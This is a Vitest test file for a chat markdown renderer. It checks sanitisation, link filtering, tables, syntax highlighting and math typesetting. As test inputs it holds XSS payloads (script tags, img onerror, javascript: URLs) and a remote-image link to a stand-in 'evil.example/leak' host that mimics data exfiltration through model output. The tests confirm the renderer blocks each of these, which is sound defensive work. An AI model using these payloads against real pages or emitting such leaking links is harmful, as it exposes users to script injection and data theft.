import { beforeAll, describe, expect, it } from 'vitest';
import { render, linkTarget, safeHighlight } from './markdown';
import { sanitizeHtml } from './render/sanitize';
import { highlight } from './render/highlight';
import { languageCount } from './render/hljs-languages';
import { loadAll } from './render/lazy';

function dom(markdown: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = render(markdown);
  return div;
}


// The final output is with KaTeX and highlight.js loaded.
beforeAll(loadAll);

describe('render', () => {
  it('escapes raw HTML from the model', () => {
    const div = dom('Hi <script>alert(1)</script> <img src=x onerror=alert(2)>');
    expect(div.querySelector('script')).toBeNull();
    expect(div.querySelector('img')).toBeNull();
    expect(div.textContent).toContain('<script>alert(1)</script>');
  });

  it('keeps http links and drops javascript: ones', () => {
    const div = dom('[ok](https://example.com/a) [bad](javascript:alert(1)) [data](data:text/html,x)');
    const hrefs = [...div.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com/a']);
  });

  it('turns a remote image into a link that says so, never an <img>', () => {
    const div = dom('![secret](https://evil.example/leak?d=abc)');
    expect(div.querySelector('img')).toBeNull();
    expect(div.querySelector('a')?.textContent).toBe('[remote image: secret]');
  });

  it('keeps single line breaks, as typed in a chat', () => {
    expect(render('line one\nline two')).toContain('<br>');
  });

  it('renders GFM tables, with their alignment, in a box that scrolls', () => {
    const div = dom('| name | price |\n|:-----|------:|\n| tea | 3 |\n| cake | 12 |');
    expect(div.querySelector('.table-wrap > table')).not.toBeNull();
    expect([...div.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['name', 'price']);
    expect(div.querySelectorAll('tbody tr')).toHaveLength(2);
    expect(div.querySelector('td:last-child')?.getAttribute('style')).toBe('text-align:right');
  });

  it('renders task lists as disabled checkboxes', () => {
    const div = dom('- [ ] write tests\n- [x] ship it\n- [not a task]');
    const boxes = [...div.querySelectorAll('input')];
    expect(boxes.map((b) => [b.type, b.disabled, b.checked])).toEqual([
      ['checkbox', true, false],
      ['checkbox', true, true],
    ]);
    expect(div.querySelectorAll('li')[0].textContent).toBe(' write tests');
    expect(div.querySelectorAll('li')[2].textContent).toBe('[not a task]');
  });

  it('renders strikethrough and footnotes', () => {
    const div = dom('It is ~~cheap~~ free[^1].\n\n[^1]: For now.');
    expect(div.querySelector('s')?.textContent).toBe('cheap');
    expect(div.querySelector('sup a')?.getAttribute('href')).toBe('#fn1');
    expect(div.querySelector('.footnotes li')?.textContent).toContain('For now.');
  });

  it('highlights code with a language label and a Copy button', () => {
    const div = dom('```python\ndef f(x):\n    return x\n```');
    expect(div.querySelector('.code-lang')?.textContent).toBe('python');
    expect(div.querySelector('button.code-copy')?.textContent).toBe('Copy');
    expect(div.querySelector('code.language-python .hljs-keyword')?.textContent).toBe('def');
    expect(div.querySelector('code')?.textContent).toBe('def f(x):\n    return x\n');
  });

  it('highlights at least the 30 most common languages, by their usual names', () => {
    expect(languageCount).toBeGreaterThanOrEqual(30);
    const names = ['js', 'ts', 'py', 'java', 'c', 'cpp', 'cs', 'go', 'golang', 'rust', 'rb', 'php', 'swift', 'kotlin',
      'scala', 'sh', 'bash', 'sql', 'json', 'yaml', 'html', 'xml', 'css', 'scss', 'md', 'dockerfile', 'makefile',
      'lua', 'perl', 'r', 'dart', 'haskell', 'elixir', 'powershell', 'toml', 'diff', 'tsx', 'jsx'];
    for (const lang of names) {
      expect(highlight('x = "s"', lang), lang).not.toBeNull();
    }
  });

  it('shows an unknown language as plain escaped code', () => {
    const div = dom('```brainfuck\n<+>\n```');
    expect(div.querySelector('.code-lang')?.textContent).toBe('brainfuck');
    expect(div.querySelector('code')?.textContent).toBe('<+>\n');
  });

  it('typesets math in every delimiter models use', () => {
    const div = dom('Inline $E=mc^2$ and \\(a+b\\).\n\n$$\n\\int_0^1 x\\,dx\n$$\n\n\\[\n\\sum_{i=1}^n i\n\\]\n\nAlso $$x^2$$ here.');
    const tex = [...div.querySelectorAll('annotation')].map((a) => a.textContent?.trim());
    expect(tex).toEqual(['E=mc^2', 'a+b', '\\int_0^1 x\\,dx', '\\sum_{i=1}^n i', 'x^2']);
    expect(div.querySelectorAll('.katex-display')).toHaveLength(3);
    expect(div.querySelectorAll('.katex-error')).toHaveLength(0);
  });

  it('keeps \\, and friends intact inside math', () => {
    const div = dom('$a\\,b\\;c\\!d\\quad e$');
    expect(div.querySelector('annotation')?.textContent).toBe('a\\,b\\;c\\!d\\quad e');
    expect(div.querySelector('.katex-error')).toBeNull();
  });

  it('leaves prices alone', () => {
    for (const text of ['It costs $5 and $10.', 'Between $5-$10 a month', 'Pay $20, or $30 with tax', 'US$ 5 to US$ 10']) {
      const div = dom(text);
      expect(div.querySelector('.katex'), text).toBeNull();
      expect(div.textContent?.trim()).toBe(text);
    }
  });

  it('does not take math inside code', () => {
    const div = dom('Use `$x$` or\n\n```\n$$y$$\n```');
    expect(div.querySelector('.katex')).toBeNull();
  });

  it('shows a bad formula as its source, without failing the message', () => {
    const div = dom('Before $\\frac{1}{$ after');
    expect(div.textContent).toContain('after');
  });

  it('marks a Mermaid block for drawing, with its source kept', () => {
    const div = dom('```mermaid\ngraph TD; A-->B\n```');
    const block = div.querySelector<HTMLElement>('.mermaid-block');
    expect(block?.dataset.mermaid).toBe('pending');
    expect(block?.querySelector('.mermaid-source code')?.textContent).toBe('graph TD; A-->B\n');
    expect(block?.querySelector('button.mermaid-toggle')?.textContent).toBe('Show source');
  });

  it("renders a finished message's unclosed fence as code, highlighted", () => {
    const div = dom('```js\nconst a = 1;');
    expect(div.querySelector('code .hljs-keyword')?.textContent).toBe('const');
  });
});

describe('highlighted code', () => {
  // Highlighted bodies skip DOMPurify's walk (checked by safeHighlight
  // instead): the page must get what DOMPurify would have written.
  const samples = [
    '```go\nfunc f(s string) string {\n\tif s == "<b>" && x > 1 { return `a\'b` }\n\treturn "&amp;\u00a0" // don\'t\n}\n```',
    '```js\nconst t = `x ${a + "<img src=x onerror=alert(1)>"} \'q\'`;\n/* <script>alert(1)</script> */\n```',
    '```html\n<a href="javascript:alert(1)" onclick=\'x()\'>&lt;hi&gt;</a>\n<style>body{}</style>\n```',
    '```python\ndef f(x):\n    return f"{x!r} \\u00a0 <br>"  # it\'s\n```',
  ];

  it('comes out as DOMPurify writes it, highlighted', () => {
    for (const md of samples) {
      const html = render(md);
      expect(html).toContain('<span class="hljs-');
      expect(sanitizeHtml(html)).toBe(html);
    }
  });

  it('takes nothing but highlight.js spans and escaped text', () => {
    expect(safeHighlight('<span class="hljs-keyword">if</span> a &lt; b &amp;&amp; &quot;x&#x27;')).toBe('<span class="hljs-keyword">if</span> a &lt; b &amp;&amp; "x\'');
    for (const bad of ['<img src=x onerror=alert(1)>', '<span class="a" onclick="x()">', '<span class=a>', '<span class="a"><script>', '<a href="#">', 'a > b', '&#60;script&#62;', '<span class="a&quot;">']) {
      expect(safeHighlight(bad)).toBeNull();
    }
  });

  it('shows code holding the marks it is set back in by as text', () => {
    const div = dom('```js\nconst a = "\uE0000\uE001";\n```\n\n```go\nx := 1\n```');
    expect(div.querySelectorAll('pre code')[0].textContent).toBe('const a = "\uE0000\uE001";\n');
    expect(div.querySelectorAll('pre code')[1].textContent).toBe('x := 1\n');
  });
});

describe('linkTarget', () => {
  it('returns only http(s) targets', () => {
    const a = document.createElement('a');
    a.setAttribute('href', 'https://example.com');
    expect(linkTarget(a)).toBe('https://example.com');
    a.setAttribute('href', 'mailto:x@example.com');
    expect(linkTarget(a)).toBeNull();
  });
});
